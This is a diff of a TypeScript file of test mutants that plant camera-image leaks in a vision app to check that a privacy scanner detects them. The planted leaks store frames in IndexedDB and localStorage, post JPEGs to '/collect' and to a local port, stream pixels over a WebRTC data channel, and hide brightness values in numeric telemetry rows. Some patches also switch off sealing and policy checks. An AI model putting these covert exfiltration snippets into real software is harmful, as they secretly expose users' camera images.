@@ -1,13 +1,6 @@
 import type { Check } from './findings.ts';
-
-/** A change of one place in one source file. */
-export interface Patch {
-  /** From the root of the checkout. */
-  readonly file: string;
-  /** Stands there exactly once. */
-  readonly find: string;
-  readonly replace: string;
-}
+import { leakFrames, leakRows, pageSees, READER, UNSEALED } from './leaks.ts';
+import type { Patch } from './patch.ts';
 
 /** The app with a leak, and the check that must find it. */
 export interface Mutant {
@@ -15,62 +8,9 @@ export interface Mutant {
   readonly leak: string;
   readonly expected: Check;
   readonly patches: readonly Patch[];
+  /** Served with a policy that lets it talk to everybody. */
+  readonly isPolicyOpen?: boolean;
 }
-
-const READER = 'workers/vision/memory-picture-reader.ts';
-const VISION = 'workers/vision/main.ts';
-
-const UNSEALED: Patch = {
-  file: 'workers/vision/vision-service.ts',
-  find: '      sealed = options.seal();\n',
-  replace: '',
-};
-
-/** Gives each frame to `leak`, an asynchronous function that `body` defines in the vision worker. */
-function leakFrames(body: string): Patch[] {
-  return [
-    {
-      file: READER,
-      find: '        const plan = planFor(frame, view);\n',
-      replace: '        await globalThis.leak(frame);\n        const plan = planFor(frame, view);\n',
-    },
-    {
-      file: VISION,
-      find: 'const die = installLastWords(scope);\n',
-      replace: `const die = installLastWords(scope);\n${LEAK_TOOLS}\n${body}\n`,
-    },
-  ];
-}
-
-/** What the leaks have in common: raw pixels and a coded picture of a frame, and a record in IndexedDB. */
-const LEAK_TOOLS = `
-const rgbaOf = async (frame) => {
-  const bytes = new Uint8Array(frame.allocationSize({ format: 'RGBA' }));
-  await frame.copyTo(bytes, { format: 'RGBA' });
-  return bytes;
-};
-const jpegOf = (frame, width, height) => {
-  const canvas = new OffscreenCanvas(width, height);
-  canvas.getContext('2d').drawImage(frame, 0, 0, width, height);
-  return canvas.convertToBlob({ type: 'image/jpeg' });
-};
-const base64Of = async (blob) => {
-  const bytes = new Uint8Array(await blob.arrayBuffer());
-  return btoa(Array.from(bytes, (byte) => String.fromCharCode(byte)).join(''));
-};
-const keep = (database, value) => new Promise((resolve, reject) => {
-  const opening = indexedDB.open(database, 1);
-  opening.onupgradeneeded = () => opening.result.createObjectStore('kept', { autoIncrement: true });
-  opening.onerror = reject;
-  opening.onsuccess = () => {
-    const writing = opening.result.transaction('kept', 'readwrite');
-    writing.objectStore('kept').put(value);
-    writing.oncomplete = () => { opening.result.close(); resolve(); };
-    writing.onerror = reject;
-  };
-});
-let leaked = 0;
-`;
 
 export const MUTANTS: readonly Mutant[] = [
   {
@@ -82,6 +22,17 @@ export const MUTANTS: readonly Mutant[] = [
       ...leakFrames(
         'globalThis.leak = async (frame) => { if (leaked++ < 3) await keep("frames", await rgbaOf(frame)); };',
       ),
+    ],
+  },
+  {
+    name: 'blob-in-indexeddb',
+    leak: 'the vision worker is not sealed and keeps JPEG blobs of three frames in IndexedDB',
+    expected: 'inventory',
+    patches: [
+      UNSEALED,
+      ...leakFrames(`globalThis.leak = async (frame) => {
+  if (leaked++ < 3) await keep("pictures", { picture: await jpegOf(frame, 640, 360) });
+};`),
     ],
   },
   {
@@ -131,6 +82,47 @@ export const MUTANTS: readonly Mutant[] = [
           '      send(numbers, [numbers.buffer]);\n      if (globalThis.luma) send(Float64Array.from(globalThis.luma));\n',
       },
     ],
+  },
+  {
+    name: 'pixels-as-people',
+    leak: 'pixels leave as places of people who are not there, in rows of the right form and within their bound',
+    expected: 'messages',
+    patches: leakRows(`      const numbers = encodeTally({
+        ...part,
+        people: Array.from({ length: 128 }, (_, at) => ({
+          x: (globalThis.luma?.[at * 8] ?? 0) / 256,
+          y: (globalThis.luma?.[at * 8 + 4] ?? 0) / 256,
+        })),
+      });
+`),
+  },
+  {
+    name: 'pixels-in-the-digits-behind',
+    leak: 'pixels leave in the last digits of true figures: as many rows, and of the same length',
+    expected: 'messages',
+    patches: [
+      {
+        file: 'src/contracts/tally-codec.ts',
+        find: "    if (!Number.isInteger(value * STEPS)) throw new Error('tally: a number is too fine');\n",
+        replace: '',
+      },
+      ...leakRows(`      const numbers = encodeTally(part).map((number, at) =>
+        (at >= 10 && at <= 12) || (at >= 24 && at < 24 + 2 * part.people.length) ? number + (globalThis.luma?.[at * 8] ?? 0) * 2 ** -32 : number,
+      );
+`),
+    ],
+  },
+  {
+    name: 'pixels-in-more-rows',
+    leak: 'pixels leave as brightness, in rows of the right form and length that nobody asked for',
+    expected: 'messages',
+    patches: leakRows(`      const numbers = encodeTally(part);
+      for (let at = 0; at < 64; at++) {
+        const row = encodeTally({ ...part, measuredFromMs: part.atMs, events: [], heat: null, look: null,
+          ended: false, brightness: globalThis.luma?.[at * 8] ?? 0 });
+        send(row, [row.buffer]);
+      }
+`),
   },
   {
     name: 'thumbnail-sent',
@@ -206,7 +198,7 @@ globalThis.leak = async (frame) => { globalThis.frames.push(await rgbaOf(frame))
   setTimeout(() => {
     canvas.getContext('2d').drawImage(video, 0, 0, 320, 180);
     localStorage.setItem('picture', canvas.toDataURL('image/jpeg'));
-    setTimeout(() => localStorage.clear(), 2000);
+    setTimeout(() => localStorage.clear(), 8000); // Chromium writes it to the disk after five seconds
   }, 3000);`),
   },
   {
@@ -228,21 +220,43 @@ globalThis.leak = async (frame) => { globalThis.frames.push(await rgbaOf(frame))
     canvas.toBlob((picture) => navigator.sendBeacon('/collect', picture), 'image/jpeg');
   }, 3000);`),
   },
+  {
+    name: 'picture-to-another-port',
+    leak: 'the page, whose policy is open and is not looked at, sends pictures to another port of this PC',
+    expected: 'requests',
+    isPolicyOpen: true,
+    patches: [
+      {
+        file: 'src/core/review/judge-policy.ts',
+        find: '  const directives = parsePolicy(policy);\n',
+        replace: '  if (policy) return [];\n  const directives = parsePolicy(policy);\n',
+      },
+      ...pageSees(`const canvas = document.createElement('canvas');
+  canvas.width = 160; canvas.height = 90;
+  setTimeout(() => {
+    canvas.getContext('2d').drawImage(video, 0, 0, 160, 90);
+    canvas.toBlob((picture) => fetch('http://127.0.0.1:9/collect', { method: 'POST', body: picture, mode: 'no-cors' })
+      .catch(() => undefined), 'image/jpeg');
+  }, 3000);`),
+    ],
+  },
+  {
+    name: 'pictures-on-a-data-channel',
+    leak: 'the page draws the camera and opens a WebRTC data channel for the pictures',
+    expected: 'coding',
+    patches: pageSees(`const canvas = document.createElement('canvas');
+  canvas.width = 160; canvas.height = 90;
+  const [near, far] = [new RTCPeerConnection(), new RTCPeerConnection()];
+  near.onicecandidate = ({ candidate }) => candidate && far.addIceCandidate(candidate);
+  far.onicecandidate = ({ candidate }) => candidate && near.addIceCandidate(candidate);
+  const channel = near.createDataChannel('pictures');
+  channel.onopen = () => setInterval(() => {
+    canvas.getContext('2d').drawImage(video, 0, 0, 160, 90);
+    channel.send(canvas.getContext('2d').getImageData(0, 0, 160, 90).data);
+  }, 500);
+  void near.setLocalDescription()
+    .then(() => far.setRemoteDescription(near.localDescription))
+    .then(() => far.setLocalDescription())
+    .then(() => near.setRemoteDescription(far.localDescription));`),
+  },
 ];
-
-/** The page keeps a second look at the camera's track, as `video`. */
-function pageSees(body: string): Patch[] {
-  return [
-    {
-      file: 'src/adapters/camera/usb-camera.ts',
-      find: '  const end = createStreamEnd(() => track.stop());\n',
-      replace: `  const end = createStreamEnd(() => track.stop());
-  const video = document.createElement('video');
-  video.muted = true;
-  video.srcObject = new MediaStream([track]);
-  void video.play();
-  ${body}
-`,
-    },
-  ];
-}
